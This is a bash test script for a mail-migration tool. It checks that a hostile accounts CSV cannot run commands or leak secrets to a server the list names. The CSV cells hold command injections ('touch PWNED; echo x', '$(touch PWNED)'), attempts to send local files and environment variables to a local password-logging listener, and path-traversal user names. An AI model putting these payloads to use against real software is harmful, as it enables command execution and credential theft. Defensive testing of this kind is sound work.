#!/usr/bin/env bash
# A list made to be evil: each of its rows would have this machine do something, or send somebody else's secret to a
# server of the list's own. Nothing happens but that the row is told; the other rows are done. With --trust-list the same
# cells work.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/batch.sh"
start servers
fill good --count 5
fill trusted --count 5

# The list's own server: clear text, takes every password, keeps whatever is said to it.
cat >"$W/listener.py" <<'PY'
import socket, sys, threading
top = socket.socket()
top.bind(("127.0.0.1", 0))
top.listen(16)
open(sys.argv[1], "w").write(str(top.getsockname()[1]))
def serve(s):
    f = s.makefile("rwb", 0)
    f.write(b"+OK evil\r\n")
    for line in f:
        open(sys.argv[2], "ab").write(line)
        word = line.split()[0].upper() if line.split() else b""
        if word == b"PASS":
            break
        f.write(b"+OK\r\nUSER\r\nUIDL\r\n.\r\n" if word == b"CAPA" else b"-ERR no\r\n" if word in (b"STLS", b"AUTH") else b"+OK\r\n")
    f.close()
    s.close()
while True:
    threading.Thread(target=serve, args=(top.accept()[0],), daemon=True).start()
PY
: >"$W/heard"
python3 "$W/listener.py" "$W/evil.port" "$W/heard" &
LIB_PIDS+=($!)
await_file "$W/evil.port" $! || not_ok "the listener begins"
evil=127.0.0.1:$(<"$W/evil.port")
export EVIL_TEST_SECRET=secret-of-a-variable
(umask 077 && echo secret-of-a-file >"$W/shadow" && echo secret-of-all >"$W/all")
cd "$W" || exit 1

good="pop3s://localhost:$LEGACY_POP3S_PORT"
to="imaps://localhost:$CLOUD_IMAPS_PORT"
pin=sha256//$(printf 'x%.0s' {1..32} | base64)
(umask 077 && cat >evil.csv <<CSV
from_host,from_user,from_password,to_host,to_user,to_password,from_password_command,from_password_file,from_password_env,allow_plaintext,from_tls,archive,proxy,bind,ca_file,ca_dir,from_tls_min,from_tls_pin,to_password_command,to_password_env,to_password_file,to_tls
$good,good,$SERVERS_PASSWORD,$to,good,$SERVERS_PASSWORD,,,,no,implicit,,,,,,1.2,,,,,implicit
pop3://$evil,r3,,$to,good,x,touch PWNED; echo x,,,,,,,,,,,,,,,
pop3://$evil,r4,,$to,good,x,,$W/shadow,,yes,,,,,,,,,,,,
pop3://$evil,r5,,$to,good,x,,,EVIL_TEST_SECRET,,plaintext,,,,,,,,,,,
$good,r6,x,$to,good,x,,,,,,$W/archive-of-list,,,,,,,,,,
$good,r7,x,$to,good,x,,,,,,,socks5h://$evil,,,,,,,,,
$good,r8,x,$to,good,x,,,,,,,,lo,,,,,,,,
$good,r9,x,$to,good,x,,,,,,,,,$W/shadow,,,,,,,
$good,r10,x,$to,good,x,,,,,,,,,,$W,,,,,,
$good,r11,x,$to,good,x,,,,,,,,,,,1.0,,,,,
$good,r12,x,$to,good,x,,,,,,,,,,,,$pin,,,,
$good,r13,x,$to,good,,,,,,,,,,,,,,\$(touch PWNED),,,
$good,r14,x,$to,good,,,,,,,,,,,,,,,EVIL_TEST_SECRET,,
$good,r15,x,$to,good,,,,,,,,,,,,,,,,$W/shadow,
$good,r16,x,$to,good,x,,,,,,,,,,,,,,,,plaintext
pop3://$evil,r17,own-word-of-the-list,$to,good,x,,,,yes,,,,,,,,,,,,
CSV
)

for command in check migrate; do
    work=(--work-dir "$W/work-$command")
    [[ $command == check ]] && work=()
    raw "$command" --accounts evil.csv "${work[@]}" --ca-file "$SERVERS_CA" --format json
    expect_exit "$command: the rows are errors" 2
    is "$command: the good row is done, each other one is told" \
        "$(jq -c '[.batch.sum.accounts, .batch.sum.in_order, ([.batch.accounts[] | select(.error.message // .error | tostring |
            test("--trust-list"))] | length)]' out)" "[16,1,15]"
done
exact "the good row's mail arrived" good
nothing_happened() { # NAME
    check "$1: no command was run" test ! -e PWNED
    check "$1: nothing was written" test ! -e "$W/archive-of-list"
    check "$1: the list's server was told nothing" test ! -s heard
}
nothing_happened "evil list"

# ---- what it would do, in words ----
raw accounts check evil.csv --ca-file "$SERVERS_CA"
expect_exit "accounts check" 2
is "accounts check: each cell is listed" "$(grep -cE '^ +[0-9]+  (from|to|allow|archive|proxy|bind|ca)_?' out)" 17
check "a command" grep -q 'from_password_command.*run a command on this machine: touch PWNED; echo x' out
check "a file" grep -q "from_password_file.*a file of this machine to the server: $W/shadow" out
check "a variable" grep -q 'from_password_env.*variable of your environment to the server: EVIL_TEST_SECRET' out
raw accounts check evil.csv --ca-file "$SERVERS_CA" --lang ja
check "in Japanese" grep -q 'コマンドを実行する：touch PWNED' out
raw accounts check evil.csv --ca-file "$SERVERS_CA" --format json
is "in JSON" "$(jq -c '[(.beyond_data | length), .trusted, (.beyond_data[0] | [.line, .column, .would])]' out)" \
    '[17,false,[3,"from_password_command","run_command"]]'
nothing_happened "accounts check"

# ---- a secret of all accounts, and a server of the list ----
(umask 077 && cat >own.csv <<CSV
from_host,user,to_password
$good,good,$SERVERS_PASSWORD
pop3://$evil,r3,x
CSV
)
for way in "--from-password-file $W/all" "--from-password-env EVIL_TEST_SECRET" "--from-password-command echo" \
    "--from-token-file $W/all"; do
    # shellcheck disable=SC2086
    raw check --accounts own.csv --from-host "$good" --to-host "$to" --ca-file "$SERVERS_CA" --allow-plaintext $way
    check "${way%% *}: told" grep -qE "own.csv:3: 127.0.0.1 is named by the list alone, and what ${way%% *}" out err
done
printf 'machine localhost login good password "%s"\ndefault login r3 password secret-of-all\n' "$SERVERS_PASSWORD" >netrc
chmod 600 netrc
raw check --accounts own.csv --from-host "$good" --to-host "$to" --ca-file "$SERVERS_CA" --allow-plaintext --netrc netrc
expect_exit "netrc: its default is for no server of the list" 2
nothing_happened "secrets of all"
raw check --accounts own.csv --from-host "$good" --to-host "$to" --ca-file "$SERVERS_CA" --allow-plaintext --netrc netrc \
    --trust-list
check "with --trust-list it is sent" grep -q secret-of-all heard
: >heard

# A user of the list looks up no other's password.
mkdir -p vault/mail && (umask 077 && echo secret-of-all >vault/admin && echo "$SERVERS_PASSWORD" | tee vault/mail/good >vault/mail/r3)
(umask 077 && printf 'user,to_password\ngood,%s\n' "$SERVERS_PASSWORD" >vault.csv &&
    printf '%s,x\n' ../admin .. r3/../../admin /admin ./r3 -n >>vault.csv)
vault=(--from-host "$good" --to-host "$to" --ca-file "$SERVERS_CA" --from-password-command "echo x >>'$W/looked'; cat '$W/vault/mail'/{user}")
raw accounts check vault.csv "${vault[@]}" --format json
is "users with a way to others: an error of the row" \
    "$(jq -r '[.errors[] | select(.error | test("--from-password-command: the user begins with")) | .line] | unique | join(" ")' out)" \
    "3 4 5 6 7 8"
raw check --accounts vault.csv "${vault[@]}"
expect_exit "users with a way to others: nothing is looked up" 2
check "users with a way to others: the command ran for the good row alone" test "$(sort looked | uniq -c | xargs)" = "1 x"
raw check --from "pop3s://..%2Fadmin@localhost:$LEGACY_POP3S_PORT" --to "$to" --to-user good --to-password-file word "${vault[@]:2:0}" \
    --from-password-command "echo x >>'$W/looked'; cat '$W/vault/mail'/{user}"
check "a single account, too" test "$(wc -l <looked)" = 1

# What was demanded for all is not undone by pop3:// of a cell.
printf 'from_host,user,from_password,to_password\npop3://%s,r3,own-word,x\n' "$evil" >scheme.csv && chmod 600 scheme.csv
raw check --accounts scheme.csv --to-host "$to" --ca-file "$SERVERS_CA" --from-tls implicit --allow-plaintext
check "a scheme of the list undoes nothing" sh -c '! grep -q own-word "$1"' sh heard

# ---- the person's word ----
(umask 077 && echo "$SERVERS_PASSWORD" >word && cat >trusted.csv <<CSV
user,from_password_command,to_password_file,archive
trusted,echo x >>ran; cat word,$W/word,$W/archive-of-list
CSV
)
raw migrate --accounts trusted.csv --from-host "$good" --to-host "$to" --ca-file "$SERVERS_CA" --work-dir work-trusted
expect_exit "without the word of the person: refused" 2
printf 'trust-list\nfrom-host = %s\nto-host = %s\nca-file = %s\n' "$good" "$to" "$SERVERS_CA" >job
raw migrate --accounts trusted.csv @job --work-dir work-trusted
expect_exit "--trust-list, out of an @FILE of the person" 0
check "the command ran" test -s ran
check "the archive was written" test -d archive-of-list
exact "the mail arrived" trusted
raw report --accounts trusted.csv --from-host "$good" --to-host "$to" --work-dir work-trusted --format json
is "report needs no --trust-list: it does none of it" "$(jq '.jobs | length' out)" 1
printf 'user,trust_list,from_password_command\nr2,yes,touch PWNED\n' >self.csv && chmod 600 self.csv
raw check --accounts self.csv --from-host "$good" --to-host "$to"
expect_exit "a list cannot trust itself" 2 'trust_list'
check "and runs nothing" test ! -e PWNED

# ---- a variable of one side is gone before the other side's command runs, of a list, too ----
printf 'user,to_password_env\ntrusted,EVIL_TEST_WORD\n' >word.csv && chmod 600 word.csv
show='env | grep -c ^EVIL_TEST_WORD=. >>seen; tr "\0" "\n" </proc/$PPID/environ | grep -c ^EVIL_TEST_WORD=. >>seen; cat word'
EVIL_TEST_WORD=$SERVERS_PASSWORD raw check --accounts word.csv @job --from-password-command "$show"
expect_exit "a list with a variable and a command" 0
EVIL_TEST_WORD=$SERVERS_PASSWORD raw check --from "$(pop_url trusted)" --to "$(imap_url trusted)" --ca-file "$SERVERS_CA" \
    --from-password-command "$show" --to-password-env EVIL_TEST_WORD
expect_exit "a pair with a variable and a command" 0
is "no command saw it" "$(sort -u seen)" 0

# ---- cells of a million characters: an error of the row, which is shown short; no server is asked ----
for column in from_user to_user user from_password to_password folder from_host; do
    python3 -c 'import sys
cells = {"from_user": "good", "to_user": "good", "user": "", "from_password": sys.argv[3], "to_password": sys.argv[3], "folder": "", "from_host": "localhost"}
cells[sys.argv[2]] = "m" * 1000000
if sys.argv[2] == "user": cells["from_user"] = cells["to_user"] = ""
print(",".join(cells)), print(",".join(cells.values()))' - "$column" "$SERVERS_PASSWORD" >long.csv && chmod 600 long.csv
    raw migrate --accounts long.csv --from-host "$good" --to-host "$to" --ca-file "$SERVERS_CA" --work-dir work-long
    expect_exit "$column, a million characters: an error of the row" 2 'long.csv:2.*(at most|too long)'
    check "$column, a million characters: told in few words" test "$(cat out err | wc -c)" -lt 5000
done
